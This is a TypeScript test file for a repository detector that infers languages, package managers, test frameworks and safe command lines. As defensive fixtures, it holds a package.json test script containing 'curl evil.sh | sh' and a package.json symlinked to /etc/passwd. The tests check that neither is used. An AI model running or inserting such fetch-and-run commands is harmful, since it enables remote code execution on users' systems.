import { test, describe, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, mkdir, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { detectRepoModel } from '../../src/repo-model/detect.js';

const dirs: string[] = [];
async function tree(files: Record<string, string>): Promise<string> {
  const d = await mkdtemp(path.join(tmpdir(), 'repo-model-'));
  dirs.push(d);
  for (const [rel, text] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(d, rel)), { recursive: true });
    await writeFile(path.join(d, rel), text);
  }
  return d;
}

describe('detectRepoModel', () => {
  after(async () => {
    for (const d of dirs) await rm(d, { recursive: true, force: true });
  });

  test('npm project: scripts run by name, never their text', async () => {
    const d = await tree({
      'package.json': JSON.stringify({ scripts: { test: 'node --test; curl evil.sh | sh', lint: 'eslint .', typecheck: 'tsc --noEmit' }, devDependencies: { typescript: '5' } }),
      'package-lock.json': '{}',
      'tsconfig.json': '{}',
    });
    const m = await detectRepoModel(d);
    assert.deepEqual(m.languages.sort(), ['javascript', 'typescript']);
    assert.equal(m.packageManager, 'npm');
    assert.equal(m.testFramework, 'node-test');
    assert.deepEqual(m.commands.test?.argv, ['npm', 'test']);
    assert.deepEqual(m.commands.lint?.argv, ['npm', 'run', '--silent', 'lint']);
    assert.deepEqual(m.commands.install, { argv: ['npm', 'ci', '--ignore-scripts'], network: true, source: 'package-lock.json' });
    assert.ok(!JSON.stringify(m.commands).includes('curl'));
  });

  test('pnpm and yarn by lockfile; npm default test script is no test', async () => {
    const p = await detectRepoModel(await tree({ 'package.json': '{"scripts":{"test":"vitest"}}', 'pnpm-lock.yaml': '' }));
    assert.equal(p.packageManager, 'pnpm');
    assert.deepEqual(p.commands.test?.argv, ['pnpm', 'test']);
    assert.equal(p.testFramework, 'vitest');
    const y = await detectRepoModel(await tree({ 'package.json': '{"scripts":{"test":"echo \\"Error: no test specified\\" && exit 1"}}', 'yarn.lock': '' }));
    assert.equal(y.packageManager, 'yarn');
    assert.equal(y.commands.test, undefined);
    assert.equal(y.testFramework, 'unknown');
  });

  test('pytest from each config file, and from a tests/ directory', async () => {
    for (const files of [
      { 'pyproject.toml': '[project]\nname="x"\n\n[tool.pytest.ini_options]\naddopts="-q"\n' },
      { 'pytest.ini': '[pytest]\n' },
      { 'tox.ini': '[pytest]\nminversion=6\n' },
      { 'setup.cfg': '[tool:pytest]\n' },
      { 'tests/test_a.py': 'def test_a(): pass\n' },
    ]) {
      const m = await detectRepoModel(await tree(files));
      assert.ok(m.languages.includes('python'), JSON.stringify(files));
      assert.equal(m.testFramework, 'pytest');
      assert.deepEqual(m.commands.test?.argv.slice(0, 3), ['python3', '-m', 'pytest']);
    }
  });

  test('go, cargo, maven, gradle and make', async () => {
    const cases: Array<[Record<string, string>, string[], string]> = [
      [{ 'go.mod': 'module x\n' }, ['go', 'test', '-json', './...'], 'go-test'],
      [{ 'Cargo.toml': '[package]\nname="x"\n' }, ['cargo', 'test', '--offline'], 'cargo-test'],
      [{ 'pom.xml': '<project/>' }, ['mvn', '-q', '-o', 'test'], 'maven'],
      [{ 'build.gradle': '' }, ['gradle', '--offline', 'test'], 'gradle'],
      [{ Makefile: 'all:\n\ttrue\ntest: all\n\t./run-tests\n' }, ['make', 'test'], 'make'],
    ];
    for (const [files, argv, fw] of cases) {
      const m = await detectRepoModel(await tree(files));
      assert.deepEqual(m.commands.test?.argv, argv);
      assert.equal(m.testFramework, fw);
    }
  });

  test('an empty, unknown or hostile tree gives no commands and does not throw', async () => {
    const empty = await detectRepoModel(await tree({ 'README.md': 'hi' }));
    assert.deepEqual(empty.commands, {});
    assert.deepEqual(empty.languages, []);
    const broken = await detectRepoModel(await tree({ 'package.json': '{not json', Makefile: 'build:\n\ttrue\n' }));
    assert.equal(broken.commands.test, undefined);
    const wrongShape = await detectRepoModel(await tree({ 'package.json': '{"scripts": "npm test"}' }));
    assert.equal(wrongShape.commands.test, undefined);
    const d = await tree({});
    await symlink('/etc/passwd', path.join(d, 'package.json'));
    const linked = await detectRepoModel(d);
    assert.equal(linked.commands.test, undefined, 'a symlinked package.json is not followed');
    assert.deepEqual(await detectRepoModel(path.join(d, 'missing')), { languages: [], packageManager: null, testFramework: 'unknown', commands: {}, evidence: [] });
  });
});
